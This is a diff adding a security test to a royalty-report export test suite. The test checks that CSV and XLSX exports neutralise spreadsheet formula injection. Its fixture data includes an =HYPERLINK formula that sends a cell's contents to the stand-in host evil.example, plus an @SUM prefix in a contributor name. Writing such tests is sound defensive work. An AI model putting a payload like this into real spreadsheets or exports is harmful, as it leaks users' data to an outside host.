@@ -172,4 +172,29 @@ describe('royalty reports, quotas and exports', () => {
     expect(none.sites).toEqual([]);
     await head.get(`/reports/monthly?site=${site}&month=2026-13`).expect(400);
   });
+
+  // Last: the piece it publishes is not in the counts the tests above check.
+  it('security: a title and a contributor name that start a formula are exported as quoted CSV text and as XLSX string cells', async () => {
+    const title = `=HYPERLINK("http://evil.example/?"&A1,"Bấm vào đây") ${unique()}`;
+    const name = `@SUM(1+1) ${unique()}`;
+    const writer = (await world.api.post('/api/contributors', { fullName: name, unit: monthly, email: `${unique()}@vungtau.test` }).expect(201)).body.data
+      .documentId as string;
+    const data = articleData(world.sites.A, { title, unit: monthly, form: 'tin', authors: [{ contributor: writer, share: 100 }] });
+    await bringTo(people, ARTICLE, (await people.author.create(ARTICLE, data).expect(201)).body.data.documentId as string, 'published');
+
+    const csv = await head.get(`/reports/exports/royalties?format=csv&site=${site}&month=${month}`).buffer(true).parse(binary).expect(200);
+    const rows = parse((csv.body as Buffer).toString('utf8'), { bom: true }) as string[][];
+    const [header] = rows;
+    const row = rows.find((r) => r[header.indexOf('Tin bài')] === `'${title}`);
+    expect(row?.[header.indexOf('Cộng tác viên')]).toBe(`'${name}`);
+    expect(row?.[header.indexOf('Thành tiền (đồng)')]).toBe('351000');
+    expect(rows.flat().filter((cell) => /^[=+\-@\t\r]/.test(cell))).toEqual([]);
+
+    const xlsx = await head.get(`/reports/exports/royalties?format=xlsx&site=${site}&month=${month}`).buffer(true).parse(binary).expect(200);
+    const workbook = new ExcelJS.Workbook();
+    await workbook.xlsx.load(xlsx.body as unknown as ArrayBuffer);
+    const cells: ExcelJS.Cell[] = [];
+    workbook.getWorksheet('Nhuận bút')!.eachRow((r) => r.eachCell((cell) => cells.push(cell)));
+    expect(cells.filter((cell) => cell.value === title || cell.value === name).map((cell) => cell.type)).toEqual([ExcelJS.ValueType.String, ExcelJS.ValueType.String]);
+  });
 });
